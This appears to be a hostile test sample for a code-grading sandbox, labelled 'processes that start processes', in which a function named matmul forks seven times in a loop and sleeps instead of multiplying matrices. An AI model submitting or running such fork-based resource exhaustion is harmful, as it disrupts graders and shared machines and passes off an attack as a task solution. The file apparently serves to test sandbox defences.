# attack: processes that start processes
# exercise: matmul
# verdict: error
import os
import time


def matmul(a, b):
    for _ in range(7):
        os.fork()
    time.sleep(5)
